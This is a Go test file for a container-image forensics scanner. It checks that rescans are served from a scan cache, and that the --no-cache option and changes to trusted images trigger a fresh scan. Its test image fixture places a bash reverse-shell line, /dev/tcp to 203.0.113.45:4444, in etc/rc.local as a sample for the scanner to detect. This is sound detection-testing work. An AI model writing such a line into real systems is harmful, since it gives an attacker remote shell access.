package casework_test

import (
	"context"
	"database/sql"
	"reflect"
	"sync"
	"testing"

	"github.com/strata-forensics/strata/audit/history"
	"github.com/strata-forensics/strata/audit/trust"
	"github.com/strata-forensics/strata/casework"
	"github.com/strata-forensics/strata/forensics/imagebuild"
)

// anomalousImage holds a reverse shell and a hard link to nothing: a content finding, and an
// anomaly that only stacking the layers finds.
func anomalousImage(t *testing.T) string {
	t.Helper()
	return saveImage(t, imagebuild.Image{Tags: []string{"example.test/odd:1"}, Layers: []imagebuild.Layer{
		{CreatedBy: "/bin/sh -c #(nop) ADD file:base in / ", Files: []imagebuild.File{imagebuild.Dir("etc"),
			imagebuild.Reg("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"), imagebuild.Reg("etc/os-release", "ID=debian\n")}},
		{CreatedBy: "COPY rc.local /etc/ # buildkit", Files: []imagebuild.File{
			imagebuild.Reg("etc/rc.local", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.45/4444 0>&1\n"),
			imagebuild.Dir("usr"), imagebuild.Dir("usr/bin"), imagebuild.Hardlink("usr/bin/gone", "usr/lib/nothing")}},
	}})
}

// layerReads counts the layers a scan begins to read.
type layerReads struct {
	mu sync.Mutex
	n  int
}

func (c *layerReads) sink(e casework.Event) {
	if _, ok := e.(casework.LayerStarted); ok {
		c.mu.Lock()
		c.n++
		c.mu.Unlock()
	}
}

// TestRescanFromTheScanCache: a rescan of an image scanned whole before, under the same rules
// and trusted images, reads no layer, and finds and records what the first scan did: the same
// findings, verdict, counts and base, the same scan row, and the same anomalies with its input.
// A change of the trusted images, or --no-cache, scans again, and finds what the first did.
func TestRescanFromTheScanCache(t *testing.T) {
	ctx := context.Background()
	for _, tc := range []struct {
		name, ref string
		anomalies bool
	}{
		{"demo suspect", demoSuspect, false},
		{"hard link to nothing", anomalousImage(t), true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := workspace(t)
			sc, err := w.NewScanner(ctx, casework.ScanOptions{})
			if err != nil {
				t.Fatal(err)
			}
			defer sc.Close()
			var firstReads, secondReads layerReads
			first, err := sc.ScanRef(ctx, tc.ref, firstReads.sink)
			if err != nil {
				t.Fatal(err)
			}
			second, err := sc.ScanRef(ctx, tc.ref, secondReads.sink)
			if err != nil {
				t.Fatal(err)
			}
			if first.FromScanCache || !second.FromScanCache || firstReads.n == 0 || secondReads.n != 0 {
				t.Fatalf("first scan from the cache %v reading %d layers, rescan from the cache %v reading %d",
					first.FromScanCache, firstReads.n, second.FromScanCache, secondReads.n)
			}
			if len(first.Findings) == 0 || !reflect.DeepEqual(first.Findings, second.Findings) {
				t.Errorf("the rescan found\n  %+v\nthe first scan\n  %+v", second.Findings, first.Findings)
			}
			if first.Verdict() != second.Verdict() || first.Headline() != second.Headline() || first.Files != second.Files ||
				first.Scanned != second.Scanned || !reflect.DeepEqual(first.Base, second.Base) {
				t.Errorf("rescan %q %d/%d files base %v, first %q %d/%d base %v", second.Headline(), second.Scanned, second.Files,
					second.Base, first.Headline(), first.Scanned, first.Files, first.Base)
			}
			for i, l := range first.Image.Layers {
				if r := second.Image.Layers[i]; r.UncompressedSize != l.UncompressedSize || r.Files != l.Files {
					t.Errorf("layer %d: rescan %d bytes %d files, first %d bytes %d files", i, r.UncompressedSize, r.Files, l.UncompressedSize, l.Files)
				}
			}

			rs := scans(t, w)
			if len(rs) != 2 {
				t.Fatalf("%d scans recorded, want 2", len(rs))
			}
			a, b := rs[0], rs[1]
			if a.ID > b.ID {
				a, b = b, a
			}
			if a.Status != history.StatusComplete || b.Status != a.Status || b.Verdict != a.Verdict || b.Base != a.Base ||
				b.Files != a.Files || b.Scanned != a.Scanned || b.Summary != a.Summary || b.RuleHash != a.RuleHash {
				t.Errorf("recorded rescan %+v\nfirst scan %+v", b, a)
			}
			db, err := sql.Open("sqlite3", "file:"+w.DBPath()+"?mode=ro")
			if err != nil {
				t.Fatal(err)
			}
			defer db.Close()
			anomalies := func(input int64) []string {
				rows, err := db.Query(`SELECT kind || ' ' || layer || ' ' || path || ' ' || detail FROM input_anomalies
					WHERE input_id = ? ORDER BY rowid`, input)
				if err != nil {
					t.Fatal(err)
				}
				defer rows.Close()
				var out []string
				for rows.Next() {
					var s string
					if err := rows.Scan(&s); err != nil {
						t.Fatal(err)
					}
					out = append(out, s)
				}
				return out
			}
			if got, want := anomalies(b.Input.ID), anomalies(a.Input.ID); !reflect.DeepEqual(got, want) || tc.anomalies != (len(want) > 0) {
				t.Errorf("anomalies recorded with the rescan %q, with the first scan %q", got, want)
			}
			findings := func(id int64) []string {
				rows, err := db.Query(`SELECT rule || ' ' || severity || ' ' || layer || ' ' || path || ' ' || title || ' ' || evidence || ' ' ||
					labels || ' ' || techniques FROM findings WHERE scan_id = ? ORDER BY id`, id)
				if err != nil {
					t.Fatal(err)
				}
				defer rows.Close()
				var out []string
				for rows.Next() {
					var s string
					if err := rows.Scan(&s); err != nil {
						t.Fatal(err)
					}
					out = append(out, s)
				}
				return out
			}
			if got, want := findings(b.ID), findings(a.ID); !reflect.DeepEqual(got, want) {
				t.Errorf("findings recorded with the rescan\n  %q\nwith the first scan\n  %q", got, want)
			}

			// Without the cache, the image is scanned again and found the same.
			plain, err := w.NewScanner(ctx, casework.ScanOptions{NoCache: true})
			if err != nil {
				t.Fatal(err)
			}
			defer plain.Close()
			third, err := plain.ScanRef(ctx, tc.ref, nil)
			if err != nil {
				t.Fatal(err)
			}
			if third.FromScanCache || !reflect.DeepEqual(third.Findings, first.Findings) {
				t.Errorf("--no-cache: from the scan cache %v, findings %+v", third.FromScanCache, third.Findings)
			}
			// Trusting the image's bottom layer changes what a scan finds: the cached scan
			// is not served.
			if err := w.TrustStore().Add(trust.Image{ConfigDigest: "sha256:" + "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
				Tags: []string{"example.test/base:1"}, DiffIDs: []string{first.Image.Layers[0].DiffID}}); err != nil {
				t.Fatal(err)
			}
			fourth, err := sc.ScanRef(ctx, tc.ref, nil)
			if err != nil {
				t.Fatal(err)
			}
			if fourth.FromScanCache || fourth.Base == nil {
				t.Errorf("after the trusted images changed: from the scan cache %v, base %v", fourth.FromScanCache, fourth.Base)
			}
		})
	}
}
